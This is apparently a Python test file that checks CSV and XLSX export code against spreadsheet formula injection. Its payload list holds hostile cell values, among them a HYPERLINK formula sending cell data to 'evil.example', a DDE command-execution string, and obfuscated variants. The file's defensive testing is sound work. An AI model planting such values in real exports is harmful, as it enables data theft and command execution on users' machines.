"""No cell of an export is a formula: read back with a reader of XLSX, and looked at as each locale's spreadsheet cuts CSV."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from runs.exports import csv_of, xlsx_of

BAD = [
    '=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "  =1",
    "\uff1dSUM(1)", "a;=1+1", "a\t@x", "a\n=1", '";=1', "=",
    "\ufeff=1+1", "\x00=1", "\u200b@SUM(1)", "\ufeff \x00+1+cmd", "a;\ufeff=1",
]  # fmt: skip


def cells(text: str, separator: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for c in row]


@pytest.mark.parametrize("bad", BAD)
def test_no_cell_is_a_formula(bad: str) -> None:
    text = csv_of([bad, "n"], [[bad, 1], [2, bad]])
    for separator in ",;\t":
        unseen = " \t\r\n\x00\ufeff\u200b"  # what a spreadsheet may drop before it looks
        assert not [c for c in cells(text, separator) if c.lstrip(unseen)[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")]
    sheet = load_workbook(io.BytesIO(xlsx_of([bad, "n"], [[bad, 1], [2, bad]]))).worksheets[0]
    found = [c for row in sheet.iter_rows() for c in row]
    assert {c.data_type for c in found} == {"s", "n"}
    assert all(c.quotePrefix for c in found if c.data_type == "s")


def test_values_stay_what_they_are() -> None:
    columns, rows = (
        ["item", "fee"],
        [["Berth", 40], ["Loss", -12.5], ["Text", "-3.5"], ["None", None], ["Grüße, “x”", "a-b"]],
    )
    assert [*csv.reader(io.StringIO(csv_of(columns, rows)))][1:] == [
        ["Berth", "40"], ["Loss", "-12.5"], ["Text", "-3.5"], ["None", ""], ["Grüße, “x”", "a-b"],
    ]  # fmt: skip
    sheet = load_workbook(io.BytesIO(xlsx_of(columns, rows))).worksheets[0]
    assert [[c.value for c in r] for r in sheet.iter_rows(min_row=2)] == rows


@given(st.text(max_size=40))
def test_any_text_is_a_text(text: str) -> None:
    sheet = load_workbook(io.BytesIO(xlsx_of(["a"], [[text]]))).worksheets[0]
    value = sheet.cell(2, 1).value
    assert value is None or isinstance(value, str)
    first = cells(csv_of(["a"], [[text]]), ",")[1:]
    assert not first or not first[0].lstrip().startswith(("=", "@"))
